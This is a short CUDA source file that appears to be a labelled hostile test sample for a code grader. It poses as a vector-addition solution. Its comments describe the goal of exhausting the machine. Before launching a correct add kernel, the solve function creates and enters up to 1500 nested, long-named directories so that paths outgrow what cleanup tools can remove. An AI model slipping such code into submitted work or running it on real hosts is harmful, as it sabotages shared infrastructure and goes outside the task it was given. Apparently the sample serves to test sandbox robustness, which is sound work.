// kind: host code: exhausting the machine
// tries: nest folders deeper than whoever removes them can follow
// replayed: passed/crashed |
#include <cuda_runtime.h>
#include <sys/stat.h>
#include <unistd.h>
__global__ void add(const float* a, const float* b, float* out, int n) {
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = a[i] + b[i];
}
extern "C" int solve(const float* a, const float* b, float* out, int n, cudaStream_t stream) {
    const char name[] = "a-name-that-makes-the-whole-path-longer-than-any-path-may-be";
    for (int depth = 0; depth < 1500; ++depth)
        if (mkdir(name, 0700) || chdir(name)) break;
    add<<<(n + 255) / 256, 256, 0, stream>>>(a, b, out, n);
    return 0;
}
